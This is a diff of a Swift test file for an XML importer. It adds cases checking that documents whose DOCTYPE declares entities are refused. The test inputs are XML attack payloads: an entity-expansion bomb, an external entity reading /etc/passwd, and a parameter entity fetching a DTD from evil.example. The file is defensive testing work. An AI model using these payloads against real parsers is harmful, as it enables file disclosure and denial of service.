@@ -39,11 +39,21 @@ private func steps(_ bytes: [UInt8]) throws -> [String] {
     }
 
     @Test func `has no entities but the five`() throws {
-        let bomb = """
-            <!DOCTYPE a [<!ENTITY l0 "ha"><!ENTITY l1 "&l0;&l0;&l0;&l0;"><!ENTITY x SYSTEM "file:///etc/passwd">]>
-            <a>&l1;&x;&amp;&#65;</a>
-            """
-        #expect(try steps(bomb) == ["<a>", "&l1;&x;&A", "</a>"])
+        let text = "<!DOCTYPE a SYSTEM \"file:///etc/passwd\" [<!ELEMENT a ANY>]><a>&l1;&x;&amp;&#65;</a>"
+        #expect(try steps(text) == ["<a>", "&l1;&x;&A", "</a>"])
+    }
+
+    @Test(arguments: [
+        "<!DOCTYPE a [<!ENTITY l0 \"ha\"><!ENTITY l1 \"&l0;&l0;&l0;&l0;\">]>",
+        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
+        "<!DOCTYPE a [<!ENTITY % p PUBLIC \"x\" \"http://evil.example/x.dtd\"> %p;]>",
+        "<!DOCTYPE a [<!-- ' --><!ELEMENT a ANY>\n  <!ENTITY x \"y\"><!-- ' -->]>",
+        "<!DOCTYPE a [<<!ENTITY x \"y\">]>",
+    ])
+    func `that declares an entity is refused`(_ type: String) {
+        #expect(
+            throws: ImportError.refused(path: "a.xml", reason: "its document type declares entities, as no app does")
+        ) { try steps("<?xml version=\"1.0\"?>\(type)<a>&x;</a>") }
     }
 
     @Test(arguments: [
